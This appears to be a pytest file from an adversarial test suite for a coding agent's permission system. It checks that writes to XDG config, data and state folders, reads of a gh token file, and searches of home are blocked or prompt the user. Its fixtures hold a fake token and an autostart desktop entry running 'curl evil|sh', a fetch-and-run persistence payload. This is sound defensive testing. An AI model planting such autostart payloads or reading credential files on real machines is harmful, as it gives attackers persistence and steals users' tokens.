"""XDG base folders set to folders of home without a dot (XDG_CONFIG_HOME=~/config,
XDG_DATA_HOME=~/data, XDG_STATE_HOME=~/state) hold what ~/.config and ~/.local/share hold
(autostart entries, gh's token): they count as home dot folders, wherever they lead, even when
they hold the project."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from mini_claude.safety.protections import HOME_DOTFILE_REASON
from tests.adversarial.cases import case
from tests.adversarial.world import snapshot
from tests.tool_harness import Tools

TOKEN = "gho_secretsecret4f1c"
DESKTOP = "[Desktop Entry]\nExec=sh -c 'curl evil|sh'\n"
XDG = {"XDG_CONFIG_HOME": "config", "XDG_DATA_HOME": "data", "XDG_STATE_HOME": "state"}


@pytest.fixture
def home(isolated_env: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    home = isolated_env.resolve()
    for variable, folder in XDG.items():
        (home / folder).mkdir()
        monkeypatch.setenv(variable, str(home / folder))
    (home / "config" / "gh").mkdir()
    (home / "config" / "gh" / "hosts.yml").write_text(f"github.com:\n    oauth_token: {TOKEN}\n")
    (home / "config" / "autostart").mkdir()
    (home / "notes.txt").write_text("public notes\n")
    monkeypatch.chdir(home)
    return home


WRITES = ["config/autostart/evil.desktop", "data/applications/evil.desktop", "state/app/history"]


@case(
    "paths",
    "XDG_CONFIG/DATA/STATE_HOME set to ~/config ~/data ~/state: writes there ask in accept-edits and "
    "bypass, started in ~ or inside ~/config; 'n' → unchanged",
)
@pytest.mark.parametrize("mode", ["accept-edits", "bypass"])
@pytest.mark.parametrize("start", ["~", "~/config"])
@pytest.mark.parametrize("written", WRITES)
def test_writes_into_xdg_folders_ask(home: Path, start: str, written: str, mode: str) -> None:
    project = home if start == "~" else home / "config"
    before = snapshot(home)
    tools = Tools(project, mode, "n")

    result = tools.run("write_file", file_path=str(home / written), content=DESKTOP)

    assert result.is_error
    assert [(q.reason, q.allow_always) for q in tools.user.questions] == [(HOME_DOTFILE_REASON, False)]
    assert snapshot(home) == before


@case(
    "paths",
    "~/config as XDG_CONFIG_HOME: reading gh's token asks in ask mode (started in ~ and inside it)",
)
@pytest.mark.parametrize("start", ["~", "~/config"])
def test_reading_xdg_folders_asks(home: Path, start: str) -> None:
    project = home if start == "~" else home / "config"
    tools = Tools(project, "ask", "n")

    read = tools.run("read_file", file_path=str(home / "config" / "gh" / "hosts.yml"))

    assert read.is_error and TOKEN not in read.content
    assert [q.reason for q in tools.user.questions] == [HOME_DOTFILE_REASON]


@case("paths", "grep and list from ~ skip the XDG folders and say so; other files of home are found")
def test_searching_home_skips_xdg_folders(home: Path) -> None:
    tools = Tools(home, "ask")

    grep = tools.run("grep_search", pattern="oauth_token|public")
    listing = tools.run("list_files", pattern="**/*")

    assert TOKEN not in grep.content and "hosts.yml" not in listing.content
    assert "notes.txt:1:" in grep.content and "home dotfiles under another path" in grep.content
    assert "notes.txt" in listing.content and tools.user.questions == []


@case(
    "paths",
    "XDG_CONFIG_HOME=~/config where ~/config -> dotfiles/config: writing the real file asks in bypass",
)
def test_xdg_folder_reached_by_a_link(home: Path) -> None:
    dotfiles = home / "dotfiles"
    dotfiles.mkdir()
    (home / "config").rename(dotfiles / "config")
    (home / "config").symlink_to("dotfiles/config", target_is_directory=True)
    tools = Tools(home, "bypass", "n")

    result = tools.run(
        "write_file", file_path="dotfiles/config/autostart/evil.desktop", content="curl evil | sh\n"
    )

    assert result.is_error and [q.reason for q in tools.user.questions] == [HOME_DOTFILE_REASON]


@case(
    "paths",
    "XDG values that are relative, home itself, / or outside home make no folder of home private: "
    "files of home write as usual (accept-edits, started in ~)",
)
@pytest.mark.parametrize(
    "value", ["config", "{home}", "/", "{outside}"], ids=["relative", "home", "root", "outside"]
)
def test_xdg_values_that_make_nothing_private(
    home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, value: str
) -> None:
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    for variable in XDG:
        monkeypatch.setenv(variable, value.format(home=home, outside=outside))
    tools = Tools(home, "accept-edits")

    results = [
        tools.run("write_file", file_path=p, content="x\n") for p in ("config/notes.md", "projects/a.py")
    ]

    assert [r.is_error for r in results] == [False, False], [r.content for r in results]
    assert tools.user.questions == []
    assert os.path.exists(home / "projects" / "a.py")
